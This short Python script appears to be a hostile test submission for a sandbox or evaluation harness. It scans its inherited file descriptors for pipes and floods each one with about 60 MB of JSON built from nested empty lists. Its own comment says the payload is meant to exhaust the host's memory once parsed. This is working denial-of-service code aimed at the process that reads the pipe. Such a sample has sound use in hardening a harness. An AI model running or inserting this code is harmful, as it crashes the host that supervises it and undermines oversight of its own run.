# place: end
# 60 MB of JSON on the observation pipe that is small as text and huge once parsed
# (`[]` is 3 bytes of text, a 64-byte list on the host): meant to exhaust the host.
import os
import stat

line = b'{"t": "obs", "cell": 0, "site": 0, "taps": [' + b"[]," * 333_333 + b"[]]}\n"
for name in os.listdir("/proc/self/fd"):
    try:
        if int(name) > 2 and stat.S_ISFIFO(os.fstat(int(name)).st_mode):
            for _ in range(60):
                os.write(int(name), line)
    except OSError:
        pass
